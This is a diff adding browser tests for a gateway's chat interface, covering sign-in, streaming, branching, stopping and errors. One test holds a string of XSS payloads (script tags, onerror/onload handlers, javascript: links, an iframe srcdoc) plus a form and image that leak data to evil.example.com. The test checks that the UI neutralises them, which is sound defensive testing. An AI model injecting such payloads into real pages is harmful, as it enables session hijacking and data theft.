@@ -1,0 +1,201 @@
+"""The page at `/` in a real browser: one gateway and one browser for all tests."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+from support.api_keys import create_key
+from support.browser import Page, needs_browser, open_browser
+from support.live import TOKEN, LiveGateway, live_gateway, stubbed_config
+from support.upstream import Exchange, Upstream
+
+pytestmark = needs_browser
+
+CALL = {"index": 0, "id": "c1", "type": "function", "function": {"name": "read", "arguments": '{"path":"no.txt"}'}}
+IS_OVER = "document.querySelectorAll('.answer').length == {} && !document.querySelector('[aria-label=Stop]')"
+
+
+def talk(exchange: Exchange) -> None:
+    """Answer by the last message: `say ...`, `think` with a tool, `hold`, `fail`, or what the user has said so far."""
+    messages = exchange.body["messages"]
+    said = [str(one["content"]) for one in messages if one["role"] == "user"]
+    verb, _, text = said[-1].partition(" ")
+    if verb == "fail":
+        exchange.json(400, {"error": {"message": "the picture is too small"}})
+        return
+    exchange.head()
+    if verb == "think" and messages[-1]["role"] != "tool":
+        exchange.event({"reasoning_content": "Let me see."})
+        exchange.event({"tool_calls": [CALL]})
+        exchange.end("tool_calls")
+        return
+    for word in (text if verb == "say" else " | ".join(said)).split(" "):
+        exchange.event({"content": word + " "})
+    if verb == "hold":
+        exchange.wait()
+    exchange.end()
+
+
+@dataclass(frozen=True)
+class Stage:
+    gateway: LiveGateway
+    page: Page
+    keys: dict[str, str]
+
+    def sign_in(self, secret: str = TOKEN, place: str = "") -> Page:
+        """Load the page without a memory, and sign in."""
+        page = self.page
+        page.open(f"{self.gateway.url}/{place}")
+        page.wait("document.querySelector('#app > *')")
+        page.evaluate("sessionStorage.clear()")
+        page.open(f"{self.gateway.url}/{place}")
+        page.fill("#secret", secret)
+        page.press("Enter")
+        page.wait("document.querySelector('nav')")
+        return page
+
+
+def config_of(upstream: Upstream, directory: Path) -> dict[str, Any]:
+    agents = [
+        {"id": "main", "default": True, "workspace": str(directory), "instructions": "Be brief."},
+        {"id": "asker", "workspace": str(directory), "tools": {"approvals": {"*": "ask"}}},
+    ]
+    config = stubbed_config(upstream.url, "stub/talk", agents=agents)
+    config["gateway"]["controlUi"] = {"enabled": True}
+    return config
+
+
+@pytest.fixture(scope="module")
+def stage(module_upstream: Upstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
+    directory = tmp_path_factory.mktemp("gateway")
+    module_upstream.answers["talk"] = talk
+    with (
+        live_gateway(directory, config_of(module_upstream, directory)) as gateway,
+        open_browser(tmp_path_factory.mktemp("browser")) as page,
+    ):
+        keys = {scope: create_key(gateway.state_dir, scope)[0] for scope in ("chat", "read", "write")}
+        keys["expired"] = create_key(gateway.state_dir, expires_in=-1)[0]
+        yield Stage(gateway, page, keys)
+        assert page.problems == []
+
+
+def ask(page: Page, text: str) -> None:
+    """Send a message and wait for the end of its answer."""
+    count = page.evaluate("document.querySelectorAll('.answer').length")
+    page.fill("#message", text)
+    page.press("Enter")
+    page.wait(IS_OVER.format(count + 1))
+
+
+def answers(page: Page) -> list[str]:
+    shown: list[str] = page.evaluate(
+        "[...document.querySelectorAll('.answer .markdown')].map(one => one.innerText.trim())"
+    )
+    return shown
+
+
+def test_wrong_token_is_refused_in_the_words_of_the_gateway(stage: Stage) -> None:
+    page = stage.page
+    page.open(f"{stage.gateway.url}/")
+    for secret in ("wrong", stage.keys["expired"]):
+        page.fill("#secret", secret)
+        page.press("Enter")
+        page.wait_for_text("invalid_api_key")
+        page.evaluate("document.querySelector('#secret').value = ''")
+
+
+def test_answer_is_streamed_and_the_conversation_goes_on(stage: Stage) -> None:
+    page = stage.sign_in()
+    ask(page, "one")
+    ask(page, "two")
+    assert answers(page) == ["one", "one | two"]
+
+
+def test_first_message_is_edited_and_asked_again_as_branches(stage: Stage) -> None:
+    page = stage.sign_in()
+    ask(page, "one")
+    page.click("[aria-label='Ask again']")
+    page.wait("document.querySelector('.branches')?.innerText.includes('2/2')")
+    assert answers(page) == ["one"]
+    page.click("[aria-label='Edit message']")
+    page.fill(".editing textarea", "uno")
+    page.click(".editing button.main")
+    page.wait("document.querySelector('.branches')?.innerText.includes('3/3')")
+    assert answers(page) == ["uno"]
+    ask(page, "two")
+    assert answers(page) == ["uno", "uno | two"]
+    page.click("[aria-label='Earlier branch']")
+    page.wait("document.querySelector('.branches')?.innerText.includes('2/3')")
+    ask(page, "due")
+    assert answers(page) == ["one", "one | due"]
+
+
+def test_stopped_answer_keeps_what_was_said(stage: Stage) -> None:
+    page = stage.sign_in()
+    page.fill("#message", "hold on")
+    page.press("Enter")
+    page.wait("document.querySelector('.answer .markdown')?.innerText.trim() == 'hold on'")
+    page.click("[aria-label=Stop]")
+    page.wait(IS_OVER.format(1))
+    assert answers(page) == ["hold on"]
+    assert not page.evaluate("document.querySelector('[role=alert]')")
+
+
+def test_reasoning_and_tools_are_folded(stage: Stage) -> None:
+    page = stage.sign_in()
+    ask(page, "think hard")
+    page.wait("document.querySelectorAll('.answer details').length == 2")
+    assert not page.evaluate("document.querySelectorAll('.answer details[open]').length")
+    page.evaluate("document.querySelectorAll('.answer summary').forEach((one) => one.click())")
+    page.wait_for_text("Let me see.")
+    page.wait_for_text("does not exist in the workspace")
+
+
+HOSTILE = """<img src=x onerror="document.title='owned'"> <script>document.title='owned'</script>
+<a href="javascript:document.title='owned'" onclick="document.title='owned'">press</a> [too](javascript:alert(1))
+<svg onload="document.title='owned'"></svg> <iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
+<form action="https://evil.example.com"><input name=secret></form> <style>body{display:none}</style>
+![leak](https://evil.example.com/leak?q=1) <div style="position:fixed">over</div> `<b>code</b>`"""
+
+
+def test_hostile_answer_and_title_do_nothing(stage: Stage) -> None:
+    page = stage.sign_in()
+    ask(page, f"say {HOSTILE}")
+    for selector in (
+        "script:not([src])",
+        "iframe",
+        "form:not(.composer)",
+        "style",
+        "svg:not(.icon)",
+        "img",
+        "[style]",
+        "[onclick]",
+    ):
+        assert page.evaluate(f"document.querySelectorAll(`.messages {selector}`).length") == 0, selector
+    assert page.evaluate("[...document.querySelectorAll('.markdown a')].map(a => a.getAttribute('href'))") == [
+        None,
+        None,
+    ]
+    page.evaluate("document.querySelectorAll('.markdown a').forEach((one) => one.click())")
+    page.evaluate("location.hash = '#/sessions'")
+    page.wait_for_text("<img src=x")
+    assert page.evaluate("document.title") == "Sessions · OpenClaw Gateway"
+    assert all("inline style" in problem for problem in page.problems)  # of the markup, while it was taken apart
+    page.problems.clear()
+    assert (
+        page.evaluate("performance.getEntriesByType('resource').filter(({name}) => name.includes('evil')).length") == 0
+    )
+
+
+def test_refused_message_can_be_tried_again(stage: Stage) -> None:
+    page = stage.sign_in()
+    page.fill("#message", "fail please")
+    page.press("Enter")
+    page.wait_for_text("the picture is too small")
+    page.wait_for_text("provider_rejected_request")
+    ask(page, "one")
+    assert answers(page) == ["one"]
